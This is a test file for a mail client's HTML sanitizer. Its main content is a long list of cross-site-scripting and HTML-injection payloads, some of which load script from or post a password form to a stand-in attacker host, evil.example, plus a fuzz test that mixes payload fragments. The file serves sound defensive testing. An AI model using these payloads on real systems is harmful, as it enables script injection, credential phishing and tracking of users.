import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { safeHtml, textAsHtml } from '../../../lib/mail/safe-html.ts'

const tags =
  /^(?:a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/
const attributes =
  /^(?:align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|datetime|dir|face|height|href|lang|rel|rowspan|scope|size|span|src|start|style|target|title|type|valign|width)$/
const tag = /^<(\/?)([a-z0-9]+)((?: [a-z-]+(?:="[^"<>]*")?)*)(?: \/)?>/

/** What is wrong with HTML that claims to be harmless; judged by its letters alone, not by the parser that made it. */
const faultsIn = (html: string): string[] => {
  const faults: string[] = []
  for (let at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
    const found = tag.exec(html.slice(at))
    if (!found) {
      faults.push(`no tag: ${html.slice(at, at + 40)}`)
      continue
    }
    if (!tags.test(found[2]!)) faults.push(`element ${found[2]}`)
    for (const [, name, value = ''] of found[3]!.matchAll(/ ([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!attributes.test(name!)) faults.push(`attribute ${name}`)
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/i.test(value)) faults.push(`link ${value}`)
      if (name === 'src' && !/^data:image\/(?:png|jpe?g|gif|webp|bmp);base64,/i.test(value))
        faults.push(`picture ${value}`)
      if (name === 'style' && /url|expression|import|position|behavior|binding|\\|@|\/\*/i.test(value))
        faults.push(`style ${value}`)
    }
  }
  return faults
}

describe('an attack in the HTML of a mail', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<script>',
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror=alert(1)//',
    '<img/src="x"/onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<p onmouseover="alert(1)">x</p>',
    '<p ONCLICK=alert(1)>x</p>',
    '<body onload=alert(1)>',
    '<div onpointerrawupdate=alert(1) contenteditable autofocus>x</div>',
    '<details open ontoggle=alert(1)>x</details>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/api/v1/people">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="data:text/html,x">',
    '<img src="https://tracker.example/p.gif?who=you">',
    '<img srcset="https://tracker.example/p.gif 2x">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import url(https://evil.example/x.css)</style>',
    '<style>p{background:url(https://evil.example)}</style>',
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    '<p style="background-color:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="width:exp/**/ression(alert(1))">x</p>',
    '<p style="color:\\75rl(x)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</p>',
    '<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>',
    '<p style="font-family:\'a;color:url(x)\'">x</p>',
    '<p style="color:red}*{background:url(x)">x</p>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus=alert(1)>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x></applet>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<template><script>alert(1)</script></template>',
    '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><?php alert(1) ?>',
    '<p id=console class=danger name=forms>x</p>',
    '<a name="getElementById" id="cookie">x</a>',
    '<table background="https://evil.example/p.gif"><td background="javascript:alert(1)">x</table>',
    '<div datasrc="#x" datafld="y" is="x-evil">x</div>',
    '<a href="https://ok.example" target="_top" rel="opener" ping="https://evil.example">x</a>',
    '<p\u0000 onclick=alert(1)>x</p>',
    '<p title="\u0022 onclick=alert(1)">x</p>',
    '<p title=\'" onclick=alert(1) x="\'>x</p>',
    `${'<b>'.repeat(5000)}<script>alert(1)</script>`,
    `${'<table><tr><td>'.repeat(500)}x`,
  ])('comes to nothing: %s', (html) => {
    expect(faultsIn(safeHtml(html))).toEqual([])
    expect(safeHtml(html)).not.toMatch(/alert\(1\)[\s\S]*<\/script|evil\.example\/x|tracker\.example/i)
  })

  const piece = fc.oneof(
    fc.constantFrom(
      ...[
        '<script>',
        '</script>',
        '<style>',
        '</style>',
        '<svg>',
        '</svg>',
        '<math>',
        '</math>',
        '<table>',
        '</table>',
      ],
      ...[
        '<p>',
        '</p>',
        '<noscript>',
        '</noscript>',
        '<title>',
        '</title>',
        '<textarea>',
        '</textarea>',
        '<xmp>',
        '</xmp>',
      ],
      ...[
        '<!--',
        '-->',
        '--!>',
        '<![CDATA[',
        ']]>',
        '<?',
        '<!',
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '`',
        '&lt;',
        '&#60;',
        '\u0000',
      ],
      ...[
        '<img src=x onerror=alert(1)>',
        '<img src="',
        '<a href="',
        '<p title="',
        "<p title='",
        '<p style="',
        '">',
        "'>",
      ],
      ...['javascript:alert(1)', 'data:text/html,x', ' onclick=alert(1) ', 'url(x)', 'expression(1)', 'text', '글자'],
      ...[
        '<select>',
        '<option>',
        '<template>',
        '<iframe>',
        '<mglyph>',
        '<mtext>',
        '<foreignObject>',
        '<a>',
        '</a>',
        '<td>',
      ],
    ),
    fc.string({ maxLength: 8 }),
  )

  test('comes to nothing, however its pieces are put together', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const safe = safeHtml(pieces.join(''))
        expect(faultsIn(safe)).toEqual([])
        // Whoever reads it again finds nothing else in it than was put there.
        const again = safeHtml(safe)
        expect(faultsIn(again)).toEqual([])
        expect(again.replace(/<[^>]*>/g, '')).toBe(safe.replace(/<[^>]*>/g, ''))
      }),
      { numRuns: 2000 },
    )
  })
})

describe('what a person wrote stays', () => {
  test.each([
    ['<p>It <b>smells</b>.<br>Help!</p>', '<p>It <b>smells</b>.<br />Help!</p>'],
    ['<table><tr><td colspan="2">a</td></tr></table>', '<table><tr><td colspan="2">a</td></tr></table>'],
    ['5 < 6 &amp; 7 > 3', '5 &lt; 6 &amp; 7 &gt; 3'],
    [
      '<a href="https://x.example/?a=1&amp;b=2">link</a>',
      '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">link</a>',
    ],
    [
      '<p style="COLOR: #f00; font-family: \'맑은 고딕\', Arial; margin: 0 0 1em; background: url(x)">글</p>',
      '<p style="COLOR: #f00; font-family: \'맑은 고딕\', Arial; margin: 0 0 1em">글</p>',
    ],
    ['<img src="https://x.example/logo.png" alt="Logo">', '<img alt="Logo" />'],
    ['<center><font color="red" size="2">x</font></center>', '<center><font color="red" size="2">x</font></center>'],
  ])('%s', (html, safe) => {
    expect(safeHtml(html)).toBe(safe)
  })

  const pictures = (mediaType: string, size = 3) => new Map([['p1@x', { mediaType, bytes: new Uint8Array(size) }]])

  test('with the pictures that the mail brought along', () => {
    expect(safeHtml('<img src="cid:p1@x" width="10">', pictures('image/png'))).toBe(
      '<img width="10" src="data:image/png;base64,AAAA" />',
    )
    expect(safeHtml('<img src="cid:other">', pictures('image/png'))).toBe('<img />')
    expect(safeHtml('<img src="cid:p1@x">', pictures('image/svg+xml'))).toBe('<img />')
    expect(safeHtml('<img src="cid:p1@x">', pictures('image/png;x"onload='))).toBe('<img />')
    expect(safeHtml('<img src="cid:p1@x">', pictures('image/png', 4 * 1024 * 1024))).toBe('<img />')
  })

  test('where it is plain text', () => {
    expect(textAsHtml('a <b> & "c"')).toBe('<pre style="white-space: pre-wrap">a &lt;b&gt; &amp; &quot;c&quot;</pre>')
  })
})
